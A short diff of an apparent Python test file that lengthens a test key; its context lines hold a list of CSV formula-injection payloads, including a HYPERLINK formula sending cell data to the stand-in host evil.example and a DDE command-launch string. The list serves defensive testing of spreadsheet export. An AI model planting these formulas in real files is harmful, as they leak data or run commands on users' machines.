@@ -25,7 +25,7 @@ from natbacc.subjects import SubjectMap
 from tests.helpers import csv_bytes as table_csv
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1+1)", "-2+3", "@cmd|' /C calc'!A0", "＝1+1"]
-KEY = b"test-key"
+KEY = b"test-key-0123456789abcdef-0123456789"
 
 
 def _hostile_school():
